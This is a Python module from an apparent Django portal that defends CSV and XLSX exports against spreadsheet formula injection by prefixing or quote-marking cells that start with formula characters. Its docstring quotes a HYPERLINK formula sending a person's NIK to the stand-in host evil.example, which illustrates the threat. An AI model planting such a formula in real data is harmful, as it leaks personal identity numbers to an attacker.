"""Every CSV and XLSX file the portal writes goes through this module (formula injection).

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (some also
after a leading tab, CR or NUL): a registered name such as
`=HYPERLINK("http://evil.example/?d="&C2,"Klik")` would send another person's NIK away when an
officer clicks it in an export. So, as OWASP and ASVS 1.2.10 recommend:

- CSV: a text cell starting with one of those characters gets a leading apostrophe
  (`'=HYPERLINK(…)`), which spreadsheet programs show as text and never evaluate;
- XLSX: every text cell is written as a string cell, never a formula; one starting with those
  characters also carries Excel's "quote prefix" (the hidden apostrophe Excel itself uses for
  text typed as `'=…`), so it shows unchanged and stays text when someone edits it.

Only text is touched. Numbers (a negative amount), dates and datetimes keep their type, so a
numeric column stays numeric and sums in the spreadsheet; text that merely looks like a number
(`"-1"` typed as a name) is text and is neutralised like any other.
"""

import csv
import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal

from django.utils import timezone
from openpyxl.cell import WriteOnlyCell

FORMULA_TRIGGERS = frozenset("=+-@\t\r\0")
# Written as they are: the spreadsheet stores them as numbers or dates, never as formulas.
# (bool is an int; datetime is a date.)
TYPED = (int, float, Decimal, dt.date, dt.time)
# Characters XML 1.0 cannot carry (openpyxl refuses them): shown as U+FFFD in XLSX.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    return text[:1] in FORMULA_TRIGGERS


def neutralise(text: str) -> str:
    """The text as a CSV cell: with a leading apostrophe when a spreadsheet would run it."""
    return "'" + text if text[:1] in FORMULA_TRIGGERS else text


def csv_cell(value):
    if value is None:
        return ""
    if type(value) is str:  # the common case first: exports are mostly text
        return neutralise(value)
    if isinstance(value, TYPED):
        return value
    return neutralise(str(value))


def csv_row(values: Iterable) -> list:
    return [csv_cell(value) for value in values]


class CsvWriter:
    """`csv.writer` whose rows go through `csv_row`; `writerow` returns what the file's
    `write` returned (so it also works with an echoing file for streaming responses)."""

    def __init__(self, file, **fmtparams) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable]) -> None:
        self._writer.writerows(csv_row(row) for row in rows)


def csv_writer(file, **fmtparams) -> CsvWriter:
    return CsvWriter(file, **fmtparams)


def xlsx_cell(sheet, value):
    """A value for `sheet.append()` of a write-only openpyxl sheet: typed values as they are,
    text as a string cell (openpyxl would otherwise store a str starting with "=" as a
    formula), formula-like text with the quote prefix."""
    if value is None:
        return None
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        # XLSX has no time zones (openpyxl refuses aware datetimes): Jakarta's wall clock.
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, TYPED):
        return value
    text = _XML_ILLEGAL.sub("\ufffd", str(value))
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_row(sheet, values: Iterable) -> list:
    return [xlsx_cell(sheet, value) for value in values]
